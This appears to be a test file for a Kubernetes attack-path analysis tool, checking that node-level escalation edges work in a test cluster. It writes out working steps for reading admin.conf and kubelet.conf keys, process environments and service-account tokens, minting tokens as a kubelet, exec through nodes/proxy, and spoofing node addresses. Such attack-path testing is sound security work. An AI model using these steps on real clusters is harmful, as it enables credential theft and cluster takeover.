/** What a node gives to whoever is root on it, and what its kubelet answers. */
import type { PlainObject } from '../../../../src/graph/family.ts';
import { allowEverywhereTo } from '../../../../src/graph/example-objects.ts';
import type { Attack, Identity } from '../attack.ts';
import { boxPod, withToken, wordSecret } from '../objects.ts';
import { type Place, type TriedFamily, way } from '../way.ts';

const NODE1 = (): string => 'Node/node1';
const NODE2 = (): string => 'Node/node2';

export const family: TriedFamily = {
  ways: [
    way({
      edge: 'NODE_TO_POD',
      nodes: true,
      from: NODE1,
      to: container,
      world: (place) => [victim(place)],
      take: async (attack) => attack.finds(await attack.run(`cat /proc/[0-9]*/environ | grep -a -o "${attack.place.word}"`)),
      nearest: { because: 'the pod runs elsewhere', from: NODE2, world: (place) => [victim(place)], refusal: /ended with/ },
    }),
    way({
      edge: 'NODE_TO_TOKENS',
      nodes: true,
      from: NODE1,
      to: ({ x }) => `ServiceAccount/${x}`,
      world: (place) => [victim(place)],
      take: readToken,
      nearest: { because: 'the pod runs elsewhere', from: NODE2, world: (place) => [victim(place)], refusal: /No such file/ },
    }),
    way({
      edge: 'NODE_KUBELET_CERT',
      nodes: true,
      from: NODE1,
      to: () => 'Group/system:nodes',
      world: () => [],
      take: async (attack) => attack.is('system:nodes', await kubelet(attack)),
      nearest: {
        because: 'a plain container does not see it',
        from: container,
        world: ({ ns }) => [boxPod(`${ns}/p`)],
        refusal: /No such file/,
      },
    }),
    way({
      edge: 'NODE_IDENTITY_SECRETS',
      nodes: true,
      from: NODE2,
      to: ({ ns }) => `Secret/${ns}/db`,
      world: (place) => [wordSecret(place, `${place.ns}/db`), onNode2(place, { imagePullSecrets: [{ name: 'db' }] })],
      take: async (attack) => attack.finds(await attack.get(`/api/v1/namespaces/${attack.ns}/secrets/db`, await kubelet(attack))),
      nearest: {
        because: 'a kubelet reads only what its pods refer to',
        world: (place) => [wordSecret(place, `${place.ns}/db`), onNode2(place)],
        refusal: /403/,
      },
    }),
    way({
      edge: 'NODE_IDENTITY_SECRETS',
      nodes: true,
      releases: ['1.31.0'],
      from: NODE2,
      to: ({ x }) => `ServiceAccount/${x}`,
      world: (place) => [onNode2(place, { serviceAccountName: 'x' })],
      take: makeToken,
      nearest: {
        because: 'no pod of the node runs as the account',
        world: (place) => [onNode2(place, { serviceAccountName: 'x', nodeName: 'node1' })],
        refusal: /403/,
      },
    }),
    way({
      edge: 'NODE_IDENTITY_SECRETS',
      nodes: true,
      releases: ['1.36.3'],
      from: NODE2,
      to: ({ x }) => `ServiceAccount/${x}`,
      world: (place) => [onNode2(place, withToken('x'))],
      take: makeToken,
      nearest: {
        because: 'the pod has no token, and from 1.33 on a kubelet makes only those that its pods have',
        world: (place) => [onNode2(place, { serviceAccountName: 'x' })],
        refusal: /403.*audience/,
      },
    }),
    way({
      edge: 'CONTROL_PLANE_NODE',
      nodes: true,
      from: NODE1,
      to: () => 'ClusterAdmin',
      world: () => [],
      take: async (attack) => attack.controlsCluster(identityIn(await attack.run('cat /etc/kubernetes/admin.conf'))),
      nearest: { because: 'a worker has no keys of the cluster', from: NODE2, world: () => [], refusal: /No such file/ },
    }),
    way({
      edge: 'NODES_PROXY',
      nodes: true,
      to: container,
      world: (place) => [victim(place), ...allowEverywhereTo(place.x, 'create nodes/proxy')],
      take: async (attack) => attack.finds(await attack.ask('POST', `/api/v1/nodes/node1/proxy/run/${attack.ns}/p/c?cmd=env`)),
      nearest: {
        because: 'metrics run nothing',
        world: (place) => [victim(place), ...allowEverywhereTo(place.x, 'create nodes/metrics')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'NODES_PROXY',
      nodes: true,
      to: container,
      world: (place) => [victim(place), ...allowEverywhereTo(place.x, 'get nodes/proxy')],
      take: async (attack) => attack.finds(await attack.kubelet(`/exec/${attack.ns}/p/c?command=env&output=1&error=1`, 'stream')),
      nearest: {
        because: 'the grant is for another node',
        world: (place) => [victim(place), ...allowEverywhereTo(place.x, 'get nodes/proxy:node2')],
        refusal: /403/,
      },
    }),
    way({
      edge: 'NODES_LOG',
      nodes: true,
      to: () => 'NodeFiles/node1',
      world: ({ x }) => allowEverywhereTo(x, 'get nodes/log'),
      take: async (attack) => attack.finds(await attack.kubelet('/logs/'), 'containers/'),
      nearest: {
        because: 'statistics are no files',
        world: ({ x }) => allowEverywhereTo(x, 'get nodes/stats'),
        refusal: /403/,
      },
    }),
    way({
      edge: 'NODE_SPOOF_STATUS',
      nodes: true,
      to: () => 'TrafficIntercept/nodes',
      world: ({ x }) => allowEverywhereTo(x, 'patch nodes/status'),
      take: spoof,
      nearest: { because: 'reading changes nothing', world: ({ x }) => allowEverywhereTo(x, 'get nodes'), refusal: /403/ },
    }),
  ],
  untried: {
    NODE_IDENTITY_UNRESTRICTED: 'the binding would lift the limits of all nodes, on which other tries stand',
    NODES_CHECKPOINT: 'the nodes have no CRIU, without which nothing is checkpointed',
  },
};

function container({ ns }: Place): string {
  return `Container/${ns}/p/c`;
}

function victim({ ns, word }: Place): PlainObject {
  return boxPod(`${ns}/p`, withToken('x'), { env: [{ name: 'WORD', value: word }] });
}

function onNode2({ ns }: Place, spec: PlainObject = {}): PlainObject {
  return boxPod(`${ns}/p`, { nodeName: 'node2', ...spec });
}

/** Of a kubeconfig with all data inside. */
export function identityIn(kubeconfig: string): Identity {
  const part = (key: string): string => Buffer.from(new RegExp(`${key}: (\\S+)`).exec(kubeconfig)?.[1] ?? '', 'base64').toString();
  return { certificate: { certificate: part('client-certificate-data'), key: part('client-key-data') } };
}

async function kubelet(attack: Attack): Promise<Identity> {
  return identityIn(await attack.run('cat /etc/kubernetes/kubelet.conf'));
}

async function readToken(attack: Attack): Promise<void> {
  const { metadata } = JSON.parse(await attack.asAdministrator('GET', `/api/v1/namespaces/${attack.ns}/pods/p`)) as {
    metadata: { uid: string };
  };
  const token = await attack.run(`cat /var/lib/kubelet/pods/${metadata.uid}/volumes/kubernetes.io~projected/*/token`);
  await attack.is(`system:serviceaccount:${attack.ns}:x`, { token });
}

async function makeToken(attack: Attack): Promise<void> {
  const text = await attack.asAdministrator('GET', `/api/v1/namespaces/${attack.ns}/pods/p`);
  const { metadata } = JSON.parse(text) as { metadata: { uid: string } };
  const boundObjectRef = { apiVersion: 'v1', kind: 'Pod', name: 'p', uid: metadata.uid };
  const body = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: { boundObjectRef } };
  const answer = await attack.post(`/api/v1/namespaces/${attack.ns}/serviceaccounts/x/token`, body, await kubelet(attack));
  const { token } = answer.status as { token: string };
  await attack.is(`system:serviceaccount:${attack.ns}:x`, { token });
}

/** An address beside the true ones, so that nobody loses his way. */
async function spoof(attack: Attack): Promise<void> {
  const added = { type: 'ExternalIP', address: '203.0.113.9' };
  const { status } = JSON.parse(await attack.asAdministrator('GET', '/api/v1/nodes/node2')) as { status: { addresses: unknown[] } };
  const changed = await attack.patch('/api/v1/nodes/node2/status', { status: { addresses: [...status.addresses, added] } });
  attack.finds(JSON.stringify(changed.status), added.address);
}
